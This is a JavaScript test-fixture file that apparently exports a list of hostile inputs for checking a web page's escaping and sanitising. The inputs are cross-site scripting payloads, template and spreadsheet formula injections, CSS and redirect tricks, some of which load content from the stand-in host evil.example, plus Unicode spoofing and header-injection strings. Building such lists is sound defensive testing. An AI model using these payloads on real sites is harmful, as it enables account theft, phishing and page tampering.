// What people put into fields to make a page run it, break it, or show something else than it is. Every one that could
// run calls `trip()`, which the browser reports.

const markup = [
  "<script>trip()</script>",
  "</script><script>trip()</script>",
  "</title><script>trip()</script>",
  "</textarea><script>trip()</script>",
  "<scr<script>ipt>trip()</scr</script>ipt>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=trip()>",
  '"><img src=x onerror=trip()>',
  "'><img src=x onerror=trip()>",
  "`><img src=x onerror=trip()>",
  '" onmouseover="trip()" autofocus onfocus="trip()',
  "' onfocus='trip()' autofocus='",
  "<input autofocus onfocus=trip()>",
  "<body onload=trip()>",
  "<details open ontoggle=trip()>x</details>",
  "<video><source onerror=trip()></video>",
  "<marquee onstart=trip()>x</marquee>",
  "<iframe srcdoc='<script>parent.trip()</script>'></iframe>",
  "<iframe src=javascript:parent.trip()></iframe>",
  "<object data=javascript:trip()></object>",
  "<embed src=https://evil.example/x.swf>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example/><button>Sign in</button></form>",
  "<a href=javascript:trip()>click</a>",
  "<!--<img src='--><img src=x onerror=trip()>",
  "<![CDATA[<img src=x onerror=trip()>]]>",
  "<noscript><p title='</noscript><img src=x onerror=trip()>'>",
  "<template><img src=x onerror=trip()></template>",
];

const drawings = [
  "<svg onload=trip()>",
  "<svg><script>trip()</script></svg>",
  "<svg><animate onbegin=trip() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:trip()><text y=9>x</text></a></svg>",
  "<svg><use href=https://evil.example/x.svg#x></svg>",
  "<math><mtext></form><mglyph><style></math><img src onerror=trip()>",
  "<math href=javascript:trip()>x</math>",
];

const addresses = [
  "javascript:trip()",
  "JaVaScRiPt:trip()",
  "javascript://%0atrip()",
  "data:text/html,<script>parent.trip()</script>",
  "vbscript:trip()",
  "//evil.example/",
  "../../../../v1/auth/session",
];

const expressions = [
  "{{constructor.constructor('trip()')()}}",
  "${trip()}",
  "#{trip()}",
  "<%= trip() %>",
  "`${trip()}`",
  "');trip();//",
  "%s%n%x%p",
];

const styles = [
  "<style>*{display:none}@import 'https://evil.example/x.css'</style>",
  "<p style=position:fixed;inset:0;background:url(https://evil.example/x)>",
  "x;background:url(https://evil.example/x)",
];

const names = [
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
];

const entities = [
  "&lt;script&gt;trip()&lt;/script&gt;",
  "&#60;img src=x onerror=trip()&#62;",
  "\\u003cscript\\u003etrip()",
];

const cells = ['=HYPERLINK("https://evil.example/","x")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1"];

const letters = [
  "\u202Egnp.exe", // right to left override
  "\u2066invoice\u2069\u200Bname", // isolates and a space without width
  "مفتاح <b>x</b> מפתח",
  "\uFEFFmark",
  "e\u0301\u0301\u0301\u0301\u0301\u0301", // not in form NFC
  "\uD83D\uDC69\u200D\uD83D\uDCBB", // several signs that are drawn as one
  "\uD800broken",
  "broken\uDC00",
  "\u0000nothing",
  "\u001B[31mred\u001B[2J\u001B]0;title\u0007",
  "\u2028trip()\u2029",
  "line\r\nSet-Cookie: x=1",
];

const sizes = ["W".repeat(128), "<b>".repeat(40), "x".repeat(100_000)];

export const payloads = [
  ...markup,
  ...drawings,
  ...addresses,
  ...expressions,
  ...styles,
  ...names,
  ...entities,
  ...cells,
  ...letters,
  ...sizes,
];
